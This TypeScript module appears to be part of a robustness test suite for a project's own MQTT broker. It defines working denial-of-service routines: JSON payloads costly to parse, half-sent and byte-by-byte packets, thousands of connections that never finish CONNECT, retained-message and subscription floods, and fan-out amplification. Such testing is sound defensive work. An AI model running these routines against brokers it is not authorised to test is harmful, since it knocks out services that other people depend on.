/** Clients that send what costs much to read, or never ends. */
import type { Attack } from './attack.ts';
import { again, beginning, openRaw, publish, rest, subscribeTo } from './raw-mqtt.ts';

const ATTACK_MS = 8_000;
const PUBLISH = 0x30;
const CONNECT = 0x10;

/** Issue 22, 6, and its kin: all that makes a decoder work hard within 64 KB. */
const WORST_PAYLOADS: readonly string[] = [
  `{"x":"${'\\"'.repeat(32_700)}\\`,
  '"\\'.repeat(32_000),
  '['.repeat(65_000),
  `{"level":${'['.repeat(32_000)}${']'.repeat(32_000)}}`,
  '{"a":'.repeat(13_000),
  `[${'{"a":0},'.repeat(8_000)}{"a":0}]`,
  `[${'{"a":NaN},'.repeat(6_400)}{"a":NaN}]`,
  `{${Array.from({ length: 6_000 }, (_, i) => `"k${i}":0`).join(',')}}`,
  `{"${'k'.repeat(65_000)}":1}`,
  `{"level":"${'v'.repeat(65_000)}"}`,
  `{"level":${'9'.repeat(65_000)}}`,
];

export const payloads: Attack = {
  name: 'payloads',
  async run(target, signal) {
    const clients = Array.from({ length: 4 }, (_, i) => openRaw(target, { id: `payloads-${i}` }));
    const worst = WORST_PAYLOADS.map((text) => Buffer.from(text));
    const sent = await again(
      async (line, round) => {
        const topic = `aimak/v1/my-village/${round % 3 === 0 ? 'tank-1-level' : `invented-${round}`}/telemetry`;
        const payload = worst[(round + line) % worst.length] ?? Buffer.alloc(0);
        await clients[line]?.send(publish({ topic, payload }));
        await rest(1, signal);
      },
      { lines: clients.length, ms: ATTACK_MS, signal },
    );
    for (const client of clients) client.vanish();
    return `${sent} payloads of 64 KB, each the worst of its kind`;
  },
};

export const halfPackets: Attack = {
  name: 'half packets',
  async run(target, signal) {
    const half = beginning(PUBLISH, 2_000_000, 1_900_000);
    let sent = 0;
    const clients = Array.from({ length: 1_000 }, (_, i) => openRaw(target, { id: `half-${i}` }));
    await again(
      async (line) => {
        for (let i = line; i < clients.length && !signal.aborted; i += 50) {
          await clients[i]?.send(half);
          sent++;
        }
        await rest(ATTACK_MS, signal);
      },
      { lines: 50, ms: ATTACK_MS, signal },
    );
    const held = clients.filter((client) => client.isOpen()).length;
    for (const client of clients) client.vanish();
    return `1.9 MB of a packet of 2 MB from ${sent} clients, ${held} of them still there`;
  },
};

/** A byte that comes by itself costs some hundred times its size. */
export const crumbs: Attack = {
  name: 'crumbs',
  async run(target, signal) {
    const clients = Array.from({ length: 100 }, (_, i) => openRaw(target, { id: `crumbs-${i}` }));
    for (const client of clients) await client.send(beginning(PUBLISH, 1_900_000, 10));
    const sent = await again(
      async () => {
        for (const client of clients) if (client.isOpen()) await client.send(Buffer.alloc(1));
        await rest(1, signal);
      },
      { lines: 1, ms: ATTACK_MS, signal },
    );
    for (const client of clients) client.vanish();
    return `${sent} bytes of a packet, one by one, from each of 100 clients`;
  },
};

export const silent: Attack = {
  name: 'without CONNECT',
  async run(target, signal) {
    const begun = beginning(CONNECT, 300_000, 290_000);
    const clients = [];
    for (let i = 0; i < 2_000 && !signal.aborted; i++) {
      const client = openRaw(target);
      clients.push(client);
      if (i % 2 === 0) void client.send(begun);
      if (i % 50 === 49) await rest(20, signal);
    }
    await rest(3_000, signal);
    for (const client of clients) client.vanish();
    return '2,000 connections that never say CONNECT, every second with most of a CONNECT of 300 KB';
  },
};

export const retained: Attack = {
  name: 'retained messages',
  async run(target, signal) {
    const clients = Array.from({ length: 4 }, (_, i) => openRaw(target, { id: `retaining-${i}` }));
    const payload = Buffer.alloc(1_000, 'r');
    const sent = await again(
      async (line, round) => {
        const some = Array.from({ length: 20 }, (_, i) =>
          publish({ topic: `retained/${line}/${round}/${i}`, payload, isRetained: true }),
        );
        await clients[line]?.send(Buffer.concat(some));
        await rest(1, signal);
      },
      { lines: clients.length, ms: ATTACK_MS, signal },
    );
    for (const client of clients) client.vanish();
    return `${sent * 20} retained messages of 1 KB, each with a topic of its own`;
  },
};

/** After `retained`: there is much to look through, and to send. */
export const subscribes: Attack = {
  name: 'subscribes',
  async run(target, signal) {
    const clients = Array.from({ length: 4 }, (_, i) => openRaw(target, { id: `subscribing-${i}` }));
    clients[0]?.deafen();
    const many = Array.from({ length: 500 }, (_, i) => `+/+/+/+/nothing-${i}`);
    const packets = [subscribeTo(['#']), subscribeTo(many), Buffer.concat(new Array(200).fill(subscribeTo(['+/#'])))];
    const sent = await again(
      async (line, round) => {
        await clients[line]?.send(packets[(line + round) % packets.length] ?? Buffer.alloc(0));
        await rest(1, signal);
      },
      { lines: clients.length, ms: ATTACK_MS, signal },
    );
    for (const client of clients) client.vanish();
    return `${sent} times: all that is retained asked for, or 500 filters that match nothing of it`;
  },
};

/** A message that goes to many, for one byte of it. */
export const fanOut: Attack = {
  name: 'fan-out',
  async run(target, signal) {
    const filters = Array.from({ length: 200 }, (_, i) =>
      Array.from({ length: 8 }, (_, bit) => ((i >> bit) & 1 ? '+' : 'a')).join('/'),
    );
    const readers = Array.from({ length: 20 }, (_, i) => openRaw(target, { id: `fan-${i}` }));
    for (const reader of readers) await reader.send(subscribeTo(filters, 0));
    const sender = openRaw(target, { id: 'fan-sender' });
    const message = publish({ topic: 'a/a/a/a/a/a/a/a', payload: Buffer.alloc(1) });
    const some = Buffer.concat(new Array(200).fill(message));
    const sent = await again(
      async () => {
        await sender.send(some);
        await rest(1, signal);
      },
      { lines: 1, ms: ATTACK_MS, signal },
    );
    for (const client of [...readers, sender]) client.vanish();
    return `${sent * 200} messages to 20 clients with 200 filters that match each`;
  },
};
